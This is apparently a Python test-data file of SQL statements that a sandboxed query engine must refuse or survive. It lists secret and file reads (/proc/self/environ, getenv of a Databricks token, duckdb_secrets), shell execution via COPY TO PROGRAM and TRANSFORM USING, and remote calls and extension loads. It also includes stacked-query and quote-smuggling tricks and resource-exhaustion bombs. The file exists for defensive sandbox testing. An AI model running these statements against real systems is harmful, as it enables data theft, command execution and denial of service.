"""Statements that somebody might send to get out, to get in, or to bring the server down.

`{canary}` is the path of a file that must not be read, without its suffix; `{out}` a directory in
which nothing may appear; `{url}` an address that must not be called.
"""

FILES = """
SELECT * FROM '{canary}.csv'
SELECT * FROM "{canary}.csv"
SELECT * FROM `{canary}.csv`
SELECT * FROM csv.`{canary}.csv`
SELECT * FROM text.`{canary}.txt`
SELECT * FROM parquet.`{canary}.parquet`
SELECT * FROM json.`{canary}.json`
SELECT * FROM delta.`{canary}`
SELECT * FROM binaryFile.`{canary}.txt`
SELECT * FROM read_csv('{canary}.csv')
SELECT * FROM read_csv_auto('{canary}.csv')
SELECT * FROM sniff_csv('{canary}.csv')
SELECT * FROM read_text('{canary}.txt')
SELECT * FROM read_blob('{canary}.txt')
SELECT * FROM read_json('{canary}.json')
SELECT * FROM read_json_objects('{canary}.json')
SELECT * FROM read_ndjson('{canary}.json')
SELECT * FROM read_parquet('{canary}.parquet')
SELECT * FROM parquet_scan('{canary}.parquet')
SELECT * FROM parquet_metadata('{canary}.parquet')
SELECT * FROM parquet_schema('{canary}.parquet')
SELECT * FROM parquet_kv_metadata('{canary}.parquet')
SELECT * FROM parquet_bloom_probe('{canary}.parquet', 'a', 1)
SELECT * FROM read_files('{canary}.csv', format => 'csv')
SELECT * FROM glob('/etc/*')
SELECT * FROM query('SELECT * FROM read_text(''{canary}.txt'')')
SELECT * FROM query_table('{canary}.csv')
SELECT content FROM read_text('/proc/self/environ')
SELECT (SELECT content FROM read_text('{canary}.txt')) AS stolen
WITH c AS (SELECT * FROM read_text('{canary}.txt')) SELECT * FROM c
SELECT * FROM (VALUES (1)) v LEFT JOIN read_text('{canary}.txt') t ON true
SELECT * FROM range(1) WHERE EXISTS (SELECT 1 FROM read_text('{canary}.txt'))
SELECT 1 UNION ALL SELECT content FROM read_text('{canary}.txt')
SELECT * FROM LATERAL (SELECT * FROM read_text('{canary}.txt'))
SELECT t.* FROM VALUES ('{canary}.txt') AS v(p), LATERAL read_text(v.p) AS t
SELECT explode(list(content)) FROM read_text('{canary}.txt')
SELECT getenv('DATABRICKS_TOKEN')
SELECT * FROM duckdb_settings()
SELECT * FROM duckdb_secrets()
SELECT * FROM duckdb_databases()
SELECT * FROM duckdb_views()
SELECT sql FROM sqlite_master
SELECT * FROM information_schema.tables
SELECT * FROM pg_catalog.pg_class
SELECT current_setting('allowed_paths')
SELECT * FROM pragma_database_list
SELECT * FROM which_secret('s3://bucket/x', 's3')
SELECT * FROM test_all_types()
SELECT input_file_name()
SELECT java_method('java.lang.Runtime', 'getRuntime')
SELECT reflect('java.lang.System', 'getenv', 'PATH')
SELECT secret('scope', 'key')
SELECT * FROM sniff_csv('/dev/zero')
SELECT * FROM read_text('/dev/stdin')
DESCRIBE SELECT * FROM read_text('{canary}.txt')
SUMMARIZE SELECT * FROM read_text('{canary}.txt')
SHOW TABLES FROM '{canary}.csv'
FROM read_text('{canary}.txt')
FROM '{canary}.csv' SELECT *
PIVOT read_csv('{canary}.csv') ON a
TABLE "{canary}.csv"
"""

NETWORK = """
SELECT * FROM '{url}/x.csv'
SELECT * FROM read_csv('{url}/x.csv')
SELECT * FROM read_parquet('{url}/x.parquet')
SELECT * FROM read_text('{url}/x')
SELECT * FROM read_json('s3://bucket/x.json')
SELECT * FROM parquet.`{url}/x.parquet`
SELECT * FROM parquet.`s3://bucket/x.parquet`
SELECT * FROM iceberg_scan('{url}/t')
SELECT * FROM delta_scan('{url}/t')
SELECT * FROM postgres_scan('host=127.0.0.1', 'public', 't')
SELECT http_request('GET', '{url}')
SELECT ai_query('m', 'read {url}')
ATTACH '{url}/x.db' AS remote
ATTACH 'postgres:host=127.0.0.1' AS remote
CREATE SECRET s (TYPE http, BEARER_TOKEN 'x')
"""

WRITES = """
COPY (SELECT 1) TO '{out}/a.csv'
COPY (SELECT 1) TO '{canary}.csv'
COPY (SELECT 1) TO PROGRAM 'touch {out}/pwned'
EXPORT DATABASE '{out}'
IMPORT DATABASE '{canary}'
ATTACH '{out}/a.db' AS a
ATTACH '{canary}.csv' AS a (TYPE sqlite)
ATTACH ':memory:' AS a
DETACH memory
USE memory
INSTALL httpfs
INSTALL sqlite FROM '{url}'
FORCE INSTALL json
LOAD httpfs
LOAD '{out}/evil.duckdb_extension'
PRAGMA database_list
PRAGMA enable_profiling
SET enable_external_access = true
SET profiling_output = '{out}/p.json'
SET log_query_path = '{out}/q.log'
SET temp_directory = '{out}'
SET spark.sql.ansi.enabled = false
RESET lock_configuration
CREATE TABLE t (a int)
CREATE TABLE t AS SELECT 1
CREATE OR REPLACE VIEW v AS SELECT 1
CREATE TEMP VIEW v AS SELECT 1
CREATE MACRO f(x) AS (SELECT content FROM read_text('{canary}.txt'))
CREATE FUNCTION f(x INT) RETURNS INT RETURN x
CREATE SCHEMA s
CREATE TYPE t AS ENUM ('a')
CREATE SEQUENCE s
INSERT INTO t VALUES (1)
INSERT OVERWRITE DIRECTORY '{out}' SELECT 1
UPDATE t SET a = 1
DELETE FROM t
MERGE INTO t USING s ON t.a = s.a WHEN MATCHED THEN DELETE
DROP TABLE t
ALTER TABLE t ADD COLUMN b int
TRUNCATE TABLE t
VACUUM t
OPTIMIZE t
ANALYZE
CHECKPOINT
FORCE CHECKPOINT
BEGIN TRANSACTION
COMMIT
ROLLBACK
CALL pragma_version()
CALL enable_logging(storage => 'file', storage_path => '{out}/log')
PREPARE p AS COPY (SELECT 1) TO '{out}/a.csv'
EXECUTE p
DEALLOCATE p
EXECUTE IMMEDIATE 'DROP TABLE t'
EXPLAIN ANALYZE COPY (SELECT 1) TO '{out}/a.csv'
EXPLAIN INSERT INTO t VALUES (1)
COMMENT ON TABLE t IS 'x'
GRANT ALL ON t TO x
WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x
WITH x AS (INSERT INTO t VALUES (1) RETURNING a) SELECT * FROM x
SELECT 1; COPY (SELECT 1) TO '{out}/a.csv'
SELECT 1; SELECT 2
SELECT 1;; DROP TABLE t
SELECT 1 /* ; */ ; /* */ ATTACH '{out}/x.db'
SELECT ';' ; SET threads = 9
SELECT 1 -- \\n ; COPY (SELECT 1) TO '{out}/a.csv'
; COPY (SELECT 1) TO '{out}/a.csv'
SELECT 1 INTO OUTFILE '{out}/a.csv'
SELECT 1 INTO t
SELECT write_log('x', log_type := 'file')
SELECT nextval('s')
SELECT set_config('threads', '9', false)
SELECT setseed(0.5)
SELECT checkpoint()
SELECT load_extension('{out}/x')
CACHE TABLE t
REFRESH TABLE t
ADD JAR '{out}/x.jar'
LIST FILES
DECLARE x INT DEFAULT 1
BEGIN SELECT 1; COPY (SELECT 1) TO '{out}/a.csv'; END
"""

ODD = [
    "",
    " ",
    ";",
    "--",
    "/*",
    "/* /* */ SELECT 1",
    "'",
    '"',
    "`",
    "SELECT",
    "SELECT 'a",
    "SELECT \x00",
    "SELECT 1\x00; COPY (SELECT 1) TO '{out}/a.csv'",
    "SELECT '\x00'",
    "SELECT \ud800",
    "SELECT '\ud800\udfff'",
    "\ufeffSELECT 1",
    "SELECT\u00a01",
    "SELECT\u20281;\u2028COPY (SELECT 1) TO '{out}/a.csv'",
    "\uff33\uff25\uff2c\uff25\uff23\uff34 * FROM read_text('{canary}.txt')",
    "SELECT * FROM re\u200bad_text('{canary}.txt')",
    "SELECT * FROM READ_TEXT\n(\n'{canary}.txt'\n)",
    "SELECT * FROM main.read_text('{canary}.txt')",
    "SELECT * FROM system.main.read_text('{canary}.txt')",
    "SELECT * FROM \"read_text\"('{canary}.txt')",
    "SELECT * FROM `read_text`('{canary}.txt')",
    "SELECT * FROM identifier('{canary}.csv')",
    "SELECT * FROM identifier(:p)",
    "SELECT * FROM IDENTIFIER('read_text' || '(''{canary}.txt'')')",
    "SELECT $$a$$ ; COPY (SELECT 1) TO '{out}/a.csv'",
    "SELECT $tag$ ' $tag$, content FROM read_text('{canary}.txt') -- '",
    "SELECT 'a\\'; COPY (SELECT 1) TO ''{out}/a.csv''; --'",
    "SELECT 'a\\', content FROM read_text('{canary}.txt') --'",
    'SELECT "a\\", content FROM read_text(\'{canary}.txt\') --"',
    "SELECT r'\\' , content FROM read_text('{canary}.txt') --'",
    "SELECT 1 AS `a``; COPY (SELECT 1) TO '{out}/a.csv' --`",
    "SELECT 1 AS `\"; COPY (SELECT 1) TO '{out}/a.csv'; --`",
    "SELECT 1 AS `a\"b`, content FROM read_text('{canary}.txt')",
    "SELECT {fn read_text('{canary}.txt')}",
    "SELECT ${system:user.home}",
    "SELECT * FROM t VERSION AS OF (SELECT content FROM read_text('{canary}.txt'))",
    "SELECT * FROM t@v1",
    "SELECT * FROM `../../{canary}`",
    "SELECT * FROM other_tenant.default.secrets",
    "SELECT transform(1) USING 'cat {canary}.txt'",
    "SELECT TRANSFORM (1) USING 'touch {out}/pwned' AS (a)",
    "SELECT * FROM python_list",
    "SELECT * FROM sys.modules",
    "SELECT printf('%n%n%s')",
    "SELECT format_string('%s%s%s%s')",
]

BOMBS = [
    "SELECT repeat('x', 4000000000)",
    "SELECT length(repeat('x', 2000000000))",
    "SELECT repeat(repeat('x', 100000), 100000)",
    "SELECT rpad('x', 2000000000, 'y')",
    "SELECT lpad('x', 2147483647, 'y')",
    "SELECT space(2147483647)",
    "SELECT concat_ws('x', sequence(1, 100000000))",
    "SELECT explode(sequence(1, 1000000000))",
    "SELECT explode(sequence(1, 1000000000000))",
    "SELECT size(sequence(1, 1000000000))",
    "SELECT sequence(1, 9223372036854775807)",
    "SELECT array_repeat('x', 1000000000)",
    "SELECT array_repeat(array_repeat(1, 100000), 100000)",
    "SELECT count(*) FROM range(100000000000)",
    "SELECT sum(a.id * b.id) FROM range(1000000000) a, range(1000000000) b",
    "SELECT count(*) FROM range(1000000) a CROSS JOIN range(1000000) b CROSS JOIN range(1000000) c",
    "SELECT * FROM range(10000000) a, range(10000000) b ORDER BY a.id * b.id",
    "SELECT count(DISTINCT a.id * b.id) FROM range(1000000) a, range(1000000) b",
    "SELECT collect_list(id) FROM range(10000000000)",
    "SELECT collect_set(id) FROM range(10000000000)",
    "SELECT array_agg(repeat('x', 10000)) FROM range(10000000)",
    "SELECT string_agg(repeat('x', 10000), '') FROM range(10000000)",
    "SELECT id, row_number() OVER (ORDER BY hash(id)) FROM range(10000000000)",
    "SELECT sum(id) OVER (ORDER BY id ROWS BETWEEN 1000000 PRECEDING AND CURRENT ROW)"
    " FROM range(100000000)",
    "WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r",
    "WITH RECURSIVE r AS (SELECT 'x' AS s UNION ALL SELECT s || s FROM r)"
    " SELECT max(length(s)) FROM r",
    "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n FROM r a CROSS JOIN range(10))"
    " SELECT count(*) FROM r",
    "SELECT regexp_replace(repeat('a', 10000000), '(a*)*b', 'x')",
    "SELECT repeat('a', 5000) || '!' RLIKE '^(((a+)+)+)+$'",
    "SELECT regexp_extract_all(repeat('a', 50000000), '(a)', 1)",
    "SELECT 'x' RLIKE '((((a{1,1000}){1,1000}){1,1000}){1,1000})'",
    "SELECT split(repeat('a,', 100000000), ',')",
    "SELECT levenshtein(repeat('a', 100000), repeat('b', 100000))",
    "SELECT levenshtein(repeat('a', 10000000), repeat('b', 10000000))",
    "SELECT factorial(1000000000)",
    "SELECT pow(10, 308) * 10",
    "SELECT from_json(repeat('[', 1000000), 'array<int>')",
    "SELECT get_json_object(repeat('[', 10000000), '$.a')",
    "SELECT to_json(sequence(1, 100000000))",
    "SELECT hex(repeat('x', 1000000000))",
    "SELECT base64(repeat('x', 1000000000))",
    "SELECT reverse(repeat('x', 1900000000))",
    "SELECT sha2(repeat('x', 1900000000), 256)",
    "SELECT replace(repeat('a', 10000000), 'a', repeat('b', 10000))",
    "SELECT translate(repeat('a', 1000000000), 'a', 'b')",
    "SELECT transform(sequence(1, 100000000), x -> repeat('x', x))",
    "SELECT aggregate(sequence(1, 100000000), 0, (a, x) -> a + x)",
    "SELECT flatten(array_repeat(sequence(1, 100000), 100000))",
    "SELECT explode(array_repeat(1, 1000000)) FROM range(1000000)",
    "SELECT * FROM range(3000000) a JOIN range(3000000) b ON a.id % 2 = b.id % 2",
    "SELECT id FROM range(100000000) ORDER BY repeat(CAST(id AS STRING), 100)",
    "SELECT approx_percentile(id, array_repeat(0.5, 10000000)) FROM range(10)",
    "SELECT decode(encode(repeat('x', 1000000000), 'utf-16'), 'utf-16')",
    "SELECT date_add(DATE'2024-01-01', 2147483647)",
    "SELECT sequence(DATE'0001-01-01', DATE'9999-12-31', INTERVAL 1 SECOND)",
    "SELECT format_number(1e308, 2000000000)",
    "SELECT bin(9223372036854775807), conv(repeat('f', 100000000), 16, 10)",
    "SELECT map_from_arrays(sequence(1, 100000000), sequence(1, 100000000))",
    "SELECT grouping_id(a, b, c) FROM VALUES (1, 2, 3) t(a, b, c) GROUP BY CUBE(a, b, c)",
]


def _nested(opening: str, middle: str, closing: str, depth: int) -> str:
    return f"SELECT {opening * depth}{middle}{closing * depth}"


def _doubling(steps: int) -> str:
    parts = ["c0 AS (SELECT * FROM range(2))"]
    for n in range(1, steps):
        before = f"SELECT * FROM c{n - 1}"
        parts.append(f"c{n} AS ({before} UNION ALL {before})")
    return f"WITH {', '.join(parts)} SELECT count(*) FROM c{steps - 1}"


LARGE = [
    _nested("(", "1", ")", 100_000),
    _nested("(", "1", ")", 3_000),
    _nested("-", "1", "", 5_000).replace("--", "- -"),
    _nested("NOT ", "true", "", 50_000),
    _nested("abs(", "1", ")", 20_000),
    _nested("[", "1", "]", 20_000),
    _nested("array(", "1", ")", 10_000),
    _nested("CASE WHEN true THEN ", "1", " END", 10_000),
    _nested("(SELECT ", "1", ")", 5_000),
    "SELECT 1" + " + 1" * 50_000,
    "SELECT true" + " AND true" * 50_000,
    "SELECT 'a'" + " || 'a'" * 20_000,
    "SELECT " + ", ".join(f"{n} AS c{n}" for n in range(50_000)),
    "SELECT 1 IN (" + ", ".join(map(str, range(200_000))) + ")",
    "SELECT '" + "x" * 10_000_000 + "'",
    "SELECT " + "9" * 100_000,
    "SELECT 1e" + "9" * 10_000,
    "SELECT " + "a" * 1_000_000,
    "SELECT `" + "a" * 1_000_000 + "` FROM t",
    "SELECT 1 -- " + "x" * 5_000_000,
    "SELECT 1 /* " + "/* " * 100_000 + "*/ " * 100_001,
    "SELECT 1" + " UNION ALL SELECT 1" * 20_000,
    "SELECT * FROM " + ", ".join(f"range(10) t{n}" for n in range(2_000)),
    "SELECT * FROM range(1) t0 "
    + " ".join(f"JOIN range(10) t{n} ON t{n}.id = t{n - 1}.id" for n in range(1, 400)),
    _doubling(40),
    "VALUES " + ", ".join(f"({n})" for n in range(100_000)),
    "SELECT CAST(NULL AS " + "array<" * 2_000 + "int" + ">" * 2_000 + ")",
    "SELECT CAST(NULL AS " + "struct<a:" * 2_000 + "int" + ">" * 2_000 + ")",
    "SELECT " + "{" * 10_000,
    "SELECT x" + ".y" * 20_000 + " FROM t",
    "SELECT x" + "[0]" * 20_000 + " FROM t",
]

REFUSED = [
    *(line for text in (FILES, NETWORK, WRITES) for line in text.strip().splitlines()),
    *ODD,
]
"""Each must be refused or harmless, at once."""

HEAVY = [*BOMBS, *LARGE]
"""Each may run until its time-out, and must not be felt by anybody else."""
